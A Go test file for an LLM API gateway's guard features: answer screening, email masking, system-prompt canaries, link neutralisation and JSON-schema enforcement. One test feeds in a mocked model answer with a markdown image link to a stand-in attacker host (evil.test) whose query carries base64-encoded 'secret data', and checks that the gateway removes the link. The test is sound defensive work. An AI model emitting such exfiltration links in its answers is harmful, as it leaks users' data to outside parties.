package gateway_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/landbridge/landbridge/internal/bridge"
	"github.com/landbridge/landbridge/internal/gateway"
	"github.com/landbridge/landbridge/internal/mask"
	"github.com/landbridge/landbridge/internal/prompt"
)

// screens calls an answer harmful that has a word.
type screens string

func (screens) ScreenPrompt(context.Context, bridge.Lease, string) (prompt.Verdict, error) {
	return prompt.Verdict{}, nil
}

func (s screens) ScreenAnswer(_ context.Context, _ bridge.Lease, answer, _ string) (prompt.Verdict, error) {
	switch {
	case strings.Contains(answer, string(s)):
		return prompt.Verdict{Blocked: true, Score: 1, Reasons: []string{"rai"}}, nil
	case strings.Contains(answer, "DOWN"):
		return prompt.Verdict{Incomplete: true}, nil
	}
	return prompt.Verdict{}, nil
}

// A guard that fires ends the answer in good form, whole or streamed, and nothing of what it fired at leaves.
func TestAnswersAreCut(t *testing.T) {
	t.Parallel()
	const said = `{"candidates":[{"content":{"parts":[{"text":"some WORD"}]},"finishReason":"STOP","index":0}],"usageMetadata":{"promptTokenCount":5,"candidatesTokenCount":2,"totalTokenCount":7}}`
	const end = `{"candidates":[{"index":0,"finishReason":"MODEL_ARMOR","finishMessage":"The answer was cut by the screener."}],"usageMetadata":{"promptTokenCount":5,"candidatesTokenCount":2,"totalTokenCount":7}}`
	for _, one := range []struct{ name, path, kind, said, want string }{
		{"whole", "generateContent", "application/json", said, end},
		{"events", "streamGenerateContent?alt=sse", "text/event-stream", "data: " + said + "\r\n\r\n", "data: " + end + "\r\n\r\n"},
		{"array", "streamGenerateContent", "application/json", "[" + said + "]", "[" + end + "\r\n]"},
	} {
		t.Run(one.name, func(t *testing.T) {
			t.Parallel()
			d := open(t, farSide(t, says(one.kind, one.said)), guarded(&gateway.Guard{Screener: screens("WORD"), ScreenAnswers: true}))
			status, body, _ := d.post(t, native+one.path, hello)
			if status != 200 || body != one.want {
				t.Errorf("%d %q\nwant %q", status, body, one.want)
			}
			last := d.book.last(t)
			if last.Code != "answer_screened" || last.Call.Guard != "block: screener rai" || last.Call.Finish != "MODEL_ARMOR" {
				t.Errorf("record %+v of %+v", last, last.Call)
			}
		})
	}
}

// What a stream has said before an error in it arrives before that error, which is the last event.
func TestTextBeforeAnErrorInAStream(t *testing.T) {
	t.Parallel()
	const said = `{"candidates":[{"content":{"parts":[{"text":"to EMAIL_ADDR"}]},"index":0}]}`
	const failed = `{"error":{"code":503,"message":"x","status":"UNAVAILABLE"}}`
	guard := guarded(&gateway.Guard{Masker: masker(t, mask.Options{})})
	for path, far := range map[string]http.HandlerFunc{
		native + "streamGenerateContent?alt=sse": says("text/event-stream", "data: "+said+"\r\n\r\ndata: "+failed+"\r\n\r\n"),
		native + "streamGenerateContent":         says("application/json", "["+said+",\r\n"+failed+"]"),
		"/v1/chat/completions":                   says("text/event-stream", "data: "+said+"\r\n\r\ndata: "+failed+"\r\n\r\n"),
	} {
		d := open(t, farSide(t, far), guard)
		ask := `{"contents":[{"role":"user","parts":[{"text":"me@b.test"}]}]}`
		if path == "/v1/chat/completions" {
			ask = `{"model":"google/gemini-2.5-flash","stream":true,"messages":[{"role":"user","content":"me@b.test"}]}`
		}
		_, body, _ := d.post(t, path, ask)
		text, fault := strings.LastIndex(body, "EMAIL_ADDR\""), strings.Index(body, `"error"`)
		if text < 0 || fault < text {
			t.Errorf("%s: %q", path, body)
		}
		if last := d.book.last(t); last.Code != "vertex_503" {
			t.Errorf("record %+v", last)
		}
	}
}

func TestWhatIsNotScreenedIsNotShown(t *testing.T) {
	t.Parallel()
	far := farSide(t, says("application/json", strings.Replace(answer, "hi", "DOWN", 1)))
	for _, passes := range []bool{false, true} {
		d := open(t, far, guarded(&gateway.Guard{Screener: screens("WORD"), ScreenAnswers: true, ScreenOpen: passes}))
		status, body, _ := d.post(t, native+"generateContent", hello)
		if passes != (status == 200) || passes != strings.Contains(body, `"DOWN"`) {
			t.Errorf("%v: %d %s", passes, status, body)
		}
	}
}

func TestCanaryCutsTheAnswer(t *testing.T) {
	t.Parallel()
	for _, system := range []string{"", `"systemInstruction":{"parts":[{"text":"be kind"}]},`} {
		far := farSide(t, nil)
		far.Config.Handler = keeping(far, parrot)
		d := open(t, far, guarded(&gateway.Guard{Canary: true}))
		status, body, _ := d.post(t, native+"generateContent", `{`+system+`"contents":[]}`)
		if status != 200 || !strings.Contains(body, `"finishReason":"PROHIBITED_CONTENT"`) || strings.Contains(body, "be kind") {
			t.Errorf("%d %s", status, body)
		}
	}
}

func TestLinksAreNeutralised(t *testing.T) {
	t.Parallel()
	said := strings.Replace(answer, "hi", "see ![x](https://evil.test/?q=c2VjcmV0IGRhdGEgdGhhdCBsZWF2ZXM) and [docs](https://docs.example.com/a)", 1)
	d := open(t, farSide(t, says("application/json", said)), guarded(&gateway.Guard{Links: gateway.Neutralise, LinkHosts: []string{"example.com"}}))
	if status, body, _ := d.post(t, native+"generateContent", hello); status != 200 || strings.Contains(body, "evil.test") || !strings.Contains(body, "docs.example.com") {
		t.Errorf("%d %s", status, body)
	}
}

func TestAnswersHoldTheSchema(t *testing.T) {
	t.Parallel()
	const ask = `{"contents":[],"generationConfig":{"responseMimeType":"application/json","responseSchema":{"type":"OBJECT","properties":{"n":{"type":"INTEGER","nullable":true}},"required":["n"]}}}`
	for said, want := range map[string]int{`{\"n\":1}`: 200, `{\"n\":null}`: 200, `{\"n\":\"x\"}`: 502, `{}`: 502, `no JSON`: 502} {
		whole := strings.Replace(answer, "hi", said, 1)
		d := open(t, farSide(t, says("application/json", whole)), guarded(&gateway.Guard{EnforceSchema: true}))
		status, body, _ := d.post(t, native+"generateContent", ask)
		if status != want || want == 502 && !strings.Contains(body, "the model's answer does not hold the request's JSON schema") {
			t.Errorf("%s: %d %s", said, status, body)
		}
		d = open(t, farSide(t, says("text/event-stream", "data: "+whole+"\n\n")), guarded(&gateway.Guard{EnforceSchema: true}))
		if status, body, _ := d.post(t, native+"streamGenerateContent?alt=sse", ask); want == 502 != strings.Contains(body, "ANSWER_SCHEMA") {
			t.Errorf("%s: %d %s", said, status, body)
		}
	}
}
